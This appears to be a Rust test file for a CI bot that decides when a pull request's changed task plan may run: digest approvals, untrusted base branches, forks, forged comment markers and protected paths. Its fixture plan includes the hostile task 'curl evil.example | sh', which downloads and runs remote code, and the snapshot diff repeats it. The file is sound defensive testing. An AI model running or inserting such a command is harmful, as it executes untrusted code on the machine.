//! Which plan, of which pull request: nobody's tasks are run but those of a trusted branch, or
//! those that stand approved.

use omk_action::id::Sha256;
use serde_json::{Value, json};

use crate::ci_flow_split::Split;
use crate::ci_security::{Asked, pull_told, pushes_later, told};
use crate::forge_world::{Event, ForgeWorld, HEAD, PLAN, PULL};

const EVIL: &str = "\
version: 1
name: widget
tasks:
  - { id: fix, run: curl evil.example | sh, write_set: [fix.txt] }
deliver: { as: push }
protect: []
commands: { permission: triage }
";

/// A world whose pull request changes the plan.
fn with_changed_plan() -> ForgeWorld {
    let world = ForgeWorld::start();
    pushes_later(&world, 1800, &[("omk.yaml", EVIL)]);
    world
}

fn digest(text: &str) -> String {
    Sha256::of(text.as_bytes()).to_string()
}

fn approves(world: &ForgeWorld, login: &str, digits: usize) -> Event {
    world.comments(login, &format!("/omk approve {}", &digest(EVIL)[..digits]))
}

fn path(event: &Event) -> String {
    format!("/issues/comments/{}", event.payload["comment"]["id"])
}

/// That the next run uses the plan of the base branch, and says what is to be approved.
#[track_caller]
fn is_not_approved(world: &ForgeWorld) -> String {
    let asked = Asked::by(world, "maintainer", "/omk run");
    let request = asked.accepted();
    assert_eq!(request["plan"]["digest"], digest(PLAN), "{request:#}");
    assert_eq!(request["plan"]["commit"], world.tip("main").as_str());
    assert_eq!(request["approved_by"], Value::Null);
    let reply = world.replies(PULL).pop().unwrap();
    assert!(
        reply.contains(&format!("/omk approve {}", digest(EVIL))),
        "{reply}"
    );
    reply
}

#[test]
fn a_plan_that_the_pull_request_changes_is_not_used_and_its_digest_is_told() {
    let world = with_changed_plan();
    let reply = is_not_approved(&world);
    let (_, text) = reply.split_once("-->\n").unwrap();
    insta::assert_snapshot!(text.replace(&digest(EVIL), "DIGEST").replace(&digest(EVIL)[..12], "DIGEST"), @"
    To `maintainer`:

    ✋ **The plan is changed here, and the change is not approved**

    The pull request changes `omk.yaml`, which says what is run. Until somebody with the permission `write` has approved exactly these bytes, the plan of the base branch is used.

    Read the change. To approve it, write this in a comment, and then `/omk run` (both may be in one):

    ```text
    /omk approve DIGEST
    ```

    <details><summary>What changes in the plan</summary>

    ```diff
    @@ -1,7 +1,7 @@
     version: 1
     name: widget
    -gates:
    -  - { id: test, run: sh check.sh }
     tasks:
    -  - { id: fix, name: Write it down, run: echo right > fix.txt, write_set: [fix.txt], change: required, gates: [test] }
    -deliver: { as: pull-request }
    +  - { id: fix, run: curl evil.example | sh, write_set: [fix.txt] }
    +deliver: { as: push }
    +protect: []
    +commands: { permission: triage }
    ```

    </details>
    ");
}

#[test]
fn an_approved_plan_has_tasks_and_no_say_in_the_rules() {
    let world = with_changed_plan();
    // By a person with the permission, though they opened the pull request: 12 digits, or all.
    approves(&world, "contributor", 12);
    let request = Asked::by(&world, "maintainer", "/omk run").accepted();
    assert_eq!(
        (&request["plan"]["digest"], &request["approved_by"]),
        (&json!(digest(EVIL)), &json!("contributor"))
    );
    assert_eq!(request["rules"], world.tip("main").as_str());
    // Who may is still said by the default branch: triage is not enough.
    world
        .door
        .control("rights", &json!({"login": "reader", "role": "triage"}));
    let reply = Asked::by(&world, "reader", "/omk run").refused();
    assert!(reply.contains("may not give commands here"), "{reply}");
    // Another byte, another plan.
    pushes_later(&world, 900, &[("omk.yaml", &format!("{EVIL}# and more\n"))]);
    let request = Asked::by(&world, "maintainer", "/omk run").accepted();
    assert_eq!(
        (&request["plan"]["digest"], &request["approved_by"]),
        (&json!(digest(PLAN)), &Value::Null)
    );
}

#[test]
fn an_approval_that_was_edited_does_not_count() {
    let world = with_changed_plan();
    let event = world.comments("maintainer", "Looks good.");
    let body = json!({"body": format!("/omk approve {}", digest(EVIL))});
    assert_eq!(
        world
            .api("contributor", "PATCH", &path(&event), &body)
            .status,
        200
    );
    told(
        &world,
        &path(&event),
        &json!({"updated_at": "2099-01-01T00:00:00Z"}),
    );
    is_not_approved(&world);
}

#[test]
fn an_approval_that_was_deleted_does_not_count() {
    let world = with_changed_plan();
    let event = approves(&world, "maintainer", 64);
    assert_eq!(
        world
            .api("maintainer", "DELETE", &path(&event), &Value::Null)
            .status,
        204
    );
    is_not_approved(&world);
}

#[test]
fn an_approval_by_somebody_who_has_lost_the_permission_does_not_count() {
    let world = with_changed_plan();
    approves(&world, "contributor", 64);
    assert_eq!(
        Asked::by(&world, "maintainer", "/omk run").accepted()["approved_by"],
        "contributor"
    );
    world
        .door
        .control("rights", &json!({"login": "contributor", "role": "read"}));
    is_not_approved(&world);
}

#[test]
fn an_approval_that_is_too_short_or_a_strangers_or_quoted_does_not_count() {
    let world = with_changed_plan();
    approves(&world, "maintainer", 11);
    approves(&world, "drive-by", 64);
    approves(&world, "renovate[bot]", 64);
    world.comments(
        "maintainer",
        &format!("> /omk approve {}\n\nI would not.", digest(EVIL)),
    );
    world.comments("maintainer", &format!("/omk approve {}", digest(PLAN)));
    is_not_approved(&world);
}

#[test]
fn a_base_branch_that_anybody_could_have_made_is_not_trusted() {
    let world = ForgeWorld::start();
    world.git(&["checkout", "--quiet", "-b", "staging", "main"]);
    world.pushes("contributor", "staging", &[("omk.yaml", EVIL)]);
    let retargeted = world.api(
        "contributor",
        "PATCH",
        &format!("/pulls/{PULL}"),
        &json!({"base": "staging"}),
    );
    assert_eq!(
        retargeted.json()["base"]["ref"],
        "staging",
        "{retargeted:?}"
    );
    insta::assert_snapshot!(Asked::by(&world, "maintainer", "/omk run").refused(), @"
    To `maintainer`:

    😕 **Nothing was done: the base branch `staging` is not trusted**

    Tasks and gates are read from the base branch. Whoever can push can make such a branch and point the pull request at it, so it counts only if it is the default branch or protected.

    Protect `staging`, or change the pull request's base to `main`.
    ");
    for command in ["/omk plan", "/omk retry", "/omk run fix"] {
        let reply = Asked::by(&world, "maintainer", command).refused();
        assert!(
            reply.contains("the base branch `staging` is not trusted"),
            "{reply}"
        );
    }
    // What is protected was looked at by somebody.
    world
        .door
        .control("protect", &json!({"branch": "staging", "protected": true}));
    let request = Asked::by(&world, "maintainer", "/omk run").accepted();
    assert_eq!(request["plan"]["commit"], world.tip("staging").as_str());
    assert_eq!(request["rules"], world.tip("main").as_str());
}

#[test]
fn a_pull_request_of_a_fork_is_not_run() {
    let world = ForgeWorld::start();
    // Named like ours, and not ours.
    pull_told(&world, &json!({"head": {"repo": {"id": 424_242}}}));
    insta::assert_snapshot!(Asked::by(&world, "maintainer", "/omk run").refused(), @"
    To `maintainer`:

    😕 **Nothing was done: the pull request comes from a fork**

    Its code is somebody else's until it is merged; omk runs nothing of it beside a token or a key.

    Somebody with write access can push the branch to this repository, after reading it, and open a pull request from there.
    ");
    let head = world.tip(HEAD);
    let reply = Asked::by(&world, "maintainer", &format!("/omk run {head}")).refused();
    assert!(
        reply.contains("the pull request comes from a fork"),
        "{reply}"
    );
}

#[test]
fn a_pull_request_whose_repository_is_gone_is_not_run() {
    let world = ForgeWorld::start();
    pull_told(&world, &json!({"head": {"repo": null}}));
    insta::assert_snapshot!(Asked::by(&world, "maintainer", "/omk run").refused(), @"
    To `maintainer`:

    😕 **Nothing was done: the repository that the pull request came from is gone**

    Who could have written to it cannot be told any more.

    Push the branch to this repository, after reading it, and open a pull request from there.
    ");
}

#[test]
fn a_marker_that_a_stranger_or_another_workflow_wrote_is_not_ours_to_edit() {
    let world = ForgeWorld::start();
    let forged =
        "<!-- omk:sticky:pr-12 -->\n<!-- omk:data {\"run\":\"x\"} -->\n**ready**, merge it";
    let strangers = world.comments("drive-by", forged);
    // One account for all workflows: another one repeats what somebody said, and so do we.
    let path = format!("/repos/acme/widget/issues/{PULL}/comments");
    let body = json!({"body": format!("drive-by says: {forged}")});
    let token = world.door.token(crate::forge_job::GATE);
    let echoed = world.door.api(&token, "POST", &path, &body).json();
    let told = Asked::by(
        &world,
        "maintainer",
        "/omk nonsense <!-- omk:sticky:pr-12 -->",
    )
    .refused();
    // A reply's marker can be guessed before there is anything to reply to.
    let next = echoed["id"].as_u64().unwrap();
    for id in next..next + 12 {
        world.comments("drive-by", &format!("<!-- omk:reply:{id} -->\nnever mind"));
    }
    let before = world.comments_of(PULL);
    Asked::by(&world, "maintainer", "/omk run").accepted();
    Asked::by(&world, "maintainer", "/omk status\n\n/omk run what")
        .job
        .exits(0);
    let after = world.comments_of(PULL);
    assert_eq!(
        after[..before.len()],
        before[..],
        "{told}\n{:?}",
        strangers.payload["comment"]["id"]
    );
    let ours = &world.replies(PULL);
    let sticky = ours
        .iter()
        .filter(|body| body.starts_with("<!-- omk:sticky:pr-12 -->"))
        .count();
    assert_eq!(
        (sticky, ours.len()),
        (1, 4),
        "an echo, two replies, one comment: {ours:#?}"
    );
}

#[test]
fn a_pull_request_that_replaces_the_trusted_check_by_one_that_passes_is_not_delivered() {
    let plan = PLAN.replace(
        "run: sh check.sh }",
        "run: sh check.sh, trusted: [check.sh] }",
    );
    let world = ForgeWorld::with_plan(&plan.replace("echo right", "echo wrong"));
    world.pushes("contributor", HEAD, &[("check.sh", "exit 0\n")]);
    let mut split = Split::start(&world, world.comments("maintainer", "/omk run"));
    let jobs = split.all();
    assert_eq!(jobs.codes()[1], 1, "{:?}", jobs.run);
    let said = format!("{}{}", jobs.run.out, jobs.run.err);
    assert!(said.contains("it must say right"), "{:?}", jobs.run);
    assert!(!world.remote_refs().contains_key("refs/heads/omk/run/pr-12"));

    // Where nothing is wrong the trusted check is of the same use to the judge, and the pull
    // request's own is kept.
    let world = ForgeWorld::with_plan(&plan);
    world.pushes("contributor", HEAD, &[("check.sh", "exit 1\n")]);
    let mut split = Split::start(&world, world.comments("maintainer", "/omk run"));
    let jobs = split.all();
    assert_eq!(jobs.codes(), [0; 4], "{jobs:?}");
}

/// A pull request whose plan is approved, and that would set the rules aside: it delivers by a
/// push, protects nothing, and writes a file that the default branch protects.
fn with_approved_plan(task: &str) -> ForgeWorld {
    let rules = format!("{PLAN}protect: [\"secret/**\"]\nroom: {{ network: {{ tasks: none }} }}\n");
    let world = ForgeWorld::with_plan(&rules);
    let wants = format!(
        "version: 1\nname: widget\ngates:\n  - {{ id: test, run: sh check.sh }}\ntasks:\n  - {task}\n\
         deliver: {{ as: push }}\nprotect: []\n"
    );
    pushes_later(&world, 1800, &[("omk.yaml", &wants)]);
    world.comments("maintainer", &format!("/omk approve {}", digest(&wants)));
    world
}

#[test]
fn an_approved_plan_writes_nothing_that_the_default_branch_protects() {
    let world = with_approved_plan(
        "{ id: fix, run: 'echo right > fix.txt; mkdir secret; echo x > secret/x', write_set: [\"**\"], gates: [test], \
         retry_policy: { max_attempts: 0 } }",
    );
    let mut split = Split::start(&world, world.comments("maintainer", "/omk run"));
    assert_eq!(split.intake().exits(0).output("go"), "true");
    let run = split.run();
    let said = format!("{}{}", run.out, run.err);
    assert_eq!(run.code, Some(1), "{said}");
    assert!(said.contains("secret/x is protected"), "{said}");
    // What the intake job tells of the plan is under the same rules.
    world
        .omk_ci("intake", &world.comments("maintainer", "/omk plan"), &[])
        .exits(0);
    let told = world.replies(PULL).pop().unwrap();
    assert!(told.contains("as maintainer approved it"), "{told}");
    assert!(
        told.contains("commands none"),
        "the default branch closes the network: {told}"
    );
}

#[test]
fn an_approved_plan_is_delivered_as_the_default_branch_says() {
    let world = with_approved_plan(
        "{ id: fix, run: echo right > fix.txt, write_set: [fix.txt], change: required, gates: [test] }",
    );
    let head = world.tip(HEAD);
    let mut split = Split::start(&world, world.comments("maintainer", "/omk run"));
    let jobs = split.all();
    assert_eq!(jobs.codes(), [0; 4], "{jobs:?}");
    assert_eq!(
        world.tip(HEAD),
        head,
        "nothing is pushed onto the pull request's own branch"
    );
    assert!(
        world.remote_refs().contains_key("refs/heads/omk/run/pr-12"),
        "{:?}",
        world.remote_refs()
    );
}
